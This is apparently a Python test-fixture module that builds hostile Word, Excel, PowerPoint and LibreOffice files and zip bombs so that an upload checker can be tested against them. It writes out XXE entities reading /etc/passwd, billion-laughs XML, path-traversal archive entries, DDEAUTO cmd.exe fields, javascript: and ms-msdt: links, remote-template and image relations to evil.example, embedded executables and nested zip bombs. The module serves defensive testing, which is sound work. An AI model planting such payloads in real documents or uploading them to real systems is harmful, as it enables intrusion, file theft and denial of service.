"""Documents of Word, Excel, PowerPoint and LibreOffice that do more than be read; and zip bombs."""

from functools import cache
from io import BytesIO
from zipfile import ZipFile, ZipInfo

from tests.factories.files import (
    OFFICE,
    WORD,
    open_document_bytes,
    open_xml_bytes,
    open_xml_parts,
    relations,
    zip_bytes,
)
from tests.portal.files.hostile import HTML, MARK, Hostile, valid

SAID = MARK.decode()
OPEN_XML, OPEN_DOCUMENT = ("docx", "xlsx", "pptx"), ("odt", "ods", "odp")
FOLDERS = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}


def every():
    for extension in OPEN_XML:
        for label, parts in added(FOLDERS[extension]).items():
            content = open_xml_bytes(extension, parts)
            yield Hostile(f"{extension}: {label}", f"verslag.{extension}", content, True)
    for extension in OPEN_DOCUMENT:
        for label, parts in added_to_open_document().items():
            content = open_document_bytes(extension, parts)
            yield Hostile(f"{extension}: {label}", f"verslag.{extension}", content, True)
        for label, body in BODIES.items():
            content = open_document_bytes(extension, body=body)
            yield Hostile(f"{extension}: {label}", f"verslag.{extension}", content, True)
    for label, body in WORD_BODIES.items():
        document = f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
        content = open_xml_bytes("docx", {"word/document.xml": document})
        yield Hostile(f"docx: {label}", "brief.docx", content, True)
    yield Hostile("docx: a far template", "brief.docx", far_template(), False)
    yield from zips()


def added(folder):
    main = f"{folder}/_rels/document.xml.rels"
    parts = {
        "macros": {f"{folder}/vbaProject.bin": MARK},
        "macro data": {f"{folder}/vbaData.xml": "<x/>"},
        "macro sheet": {f"{folder}/macrosheets/sheet1.xml": "<x/>"},
        "an object": {f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + MARK},
        "a program": {f"{folder}/embeddings/x.exe": b"MZ" + MARK},
        "a program as picture": {f"{folder}/media/image1.exe": b"MZ" + MARK},
        "active x": {f"{folder}/activeX/activeX1.bin": MARK},
        "a page": {f"{folder}/media/x.html": HTML["script"]},
        "a movie": {f"{folder}/media/media1.mp4": MARK},
        "a nested document": {f"{folder}/embeddings/nested.docx": valid()["docx"]},
        "a nested workbook with macros": {
            f"{folder}/embeddings/a.xlsx": open_xml_bytes("xlsx", {"xl/vbaProject.bin": MARK})
        },
        "a nested workbook that is none": {f"{folder}/embeddings/a.xlsx": MARK},
        "up and away": {"../../evil.xml": "<x/>"},
        "backslashes": {"..\\..\\evil.xml": "<x/>"},
        "from the root": {"/etc/evil.xml": "<x/>"},
        "no xml": {f"{folder}/x.xml": MARK},
        "billion laughs": {f"{folder}/x.xml": LAUGHS},
        "an entity": {f"{folder}/x.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'},
        "deep": {f"{folder}/x.xml": "<a>" * 20_000},
    }  # fmt: skip
    kinds = (
        "oleObject",
        "aFChunk",
        "control",
        "vbaProject",
        "externalLink",
        "connections",
        "webextension",
    )
    for kind in kinds:
        parts[f"relation {kind}"] = {main: relations((kind, "x.xml"))}
    for kind in ("image", "frame", "subDocument", "attachedTemplate", "mailMergeSource", "video"):
        parts[f"far {kind}"] = {main: relations((kind, f"http://evil.example/{SAID}", "External"))}
    for link in (
        "javascript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "ms-msdt:/id x",
        " JAVASCRIPT:x",
    ):
        parts[f"link {link}"] = {main: relations(("hyperlink", link, "External"))}
    types = open_xml_parts("docx")["[Content_Types].xml"]
    parts["macro type"] = {
        "[Content_Types].xml": types.replace("main+xml", "macroEnabled.main+xml")
    }
    parts["no types"] = {"[Content_Types].xml": "<Types/>"}
    return parts


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><x>&j;</x>"
)


def _run(text):
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


WORD_BODIES = {
    "dde": _run("DDEAUTO cmd.exe " + SAID),
    "dde in pieces": _run("DD") + _run("EAU") + _run("TO ") + _run("cmd"),
    "dde in small letters": _run(" dde excel x"),
    "dde in short": '<w:fldSimple w:instr="DDE cmd"/>',
    "alt chunk": "<w:altChunk/>",
}
BODIES = {
    "event": '<script:event-listener script:language="x" xlink:href="vnd.sun.star.script:x"/>',
    "plugin": '<draw:plugin xlink:href="http://evil.example/"/>',
    "applet": "<draw:applet/>",
    "frame": '<draw:floating-frame xlink:href="http://evil.example/"/>',
    "far image": f'<draw:image xlink:href="http://evil.example/{SAID}"/>',
    "image of the disk": f'<draw:image xlink:href="file:///etc/{SAID}"/>',
    "image above": '<draw:image xlink:href="../../etc/passwd"/>',
    "object": '<draw:object-ole xlink:href="./Object 1"/>',
    "dde": "<text:dde-connection-decl office:dde-application='soffice'/>",
    "dde table": "<table:dde-link/>",
    "other cells": '<table:table-source xlink:href="x.ods"/>',
    "link that is a script": '<text:a xlink:href="javascript:alert(1)">x</text:a>',
    "macro link": '<text:a xlink:href="vnd.sun.star.script:x$y?language=Basic">x</text:a>',
}


def added_to_open_document():
    locked = '<m:manifest xmlns:m="urn:x"><m:encryption-data/></m:manifest>'
    return {
        "basic": {"Basic/Standard/Module1.xml": f"<x>{SAID}</x>"},
        "python": {"Scripts/python/x.py": MARK},
        "an object": {"Object 1": b"\xd0\xcf\x11\xe0" + MARK},
        "a program": {"Pictures/x.exe": b"MZ" + MARK},
        "locked": {"META-INF/manifest.xml": locked},
        "another mark": {"mimetype": "text/html"},
        "a template": {"mimetype": "application/vnd.oasis.opendocument.text-template"},
        "billion laughs": {"styles.xml": LAUGHS},
        "up and away": {"../../evil.xml": "<x/>"},
    }


def far_template():
    """As Word notes it for everybody with a house style: taken, without the template."""
    template = f'<w:attachedTemplate r:id="r0" xmlns:r="{OFFICE}/relationships"/>'
    settings = f'<w:settings xmlns:w="{WORD}">{template}</w:settings>'
    far = relations(("attachedTemplate", f"http://evil.example/{SAID}.dotm", "External"))
    parts = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": far}
    return open_xml_bytes("docx", parts)


def zips():
    """Packed too well, too deep, too many, or with a lie about it."""
    zeros = b"\0" * 12_000_000
    for extension in ("docx", "odt", "xlsx"):
        name, good = f"bom.{extension}", valid()[extension]
        extend = open_document_bytes if extension == "odt" else open_xml_bytes
        more = {f"word/x{n}.xml": "<x/>" for n in range(3100)}
        yield Hostile(
            f"{extension}: zeros", name, extend(extension, {"word/x.xml": zeros}), True, heavy=True
        )
        yield Hostile(
            f"{extension}: spaces",
            name,
            extend(extension, {"word/x.xml": b"<x>" + b" " * 3_000_000 + b"</x>"}),
            True,
        )
        yield Hostile(f"{extension}: many parts", name, extend(extension, more), True)
        yield Hostile(
            f"{extension}: zip in zip", name, extend(extension, {"x.zip": matryoshka()}), True
        )
        yield Hostile(f"{extension}: only a zip", name, matryoshka(), True)
        yield Hostile(f"{extension}: page in front", name, HTML["script"] + good, True)
        yield Hostile(f"{extension}: page behind", name, good + HTML["script"])
        yield Hostile(f"{extension}: page in the comment", name, commented(good))
        yield Hostile(f"{extension}: lies about sizes", name, lying(good))
        yield Hostile(f"{extension}: says it is locked", name, locked(good), True)
        yield Hostile(f"{extension}: a part twice", name, twice(good), True)
        yield Hostile(f"{extension}: another packing", name, zip_bytes({"x": b"x"}, 12), True)
        yield Hostile(
            f"{extension}: capitals", name, extend(extension, {"WORD/VBAPROJECT.BIN": MARK}), True
        )


@cache
def matryoshka():
    content = b"\0" * 1_000_000
    for depth in range(8):
        content = zip_bytes({f"{depth}.zip": content})
    return content


def commented(good):
    file = BytesIO(good)
    with ZipFile(file, "a") as packed:
        packed.comment = HTML["script"]
    return file.getvalue()


def lying(good):
    """Every part says that it unpacks to four bytes."""
    file = BytesIO(good)
    with ZipFile(file, "a") as packed:
        for part in packed.infolist():
            part.file_size = 4
        packed.writestr(ZipInfo("x.xml"), "<x/>")
    return file.getvalue()


def locked(good):
    at = good.rindex(b"PK\x01\x02")
    return good[: at + 8] + bytes([good[at + 8] | 1]) + good[at + 9 :]


def twice(good):
    file = BytesIO(good)
    with ZipFile(file, "a") as packed:
        packed.writestr(ZipInfo("WORD/extra.xml"), "<x/>")
        packed.writestr(ZipInfo("word/extra.xml"), f"<x>{SAID}</x>")
    return file.getvalue()
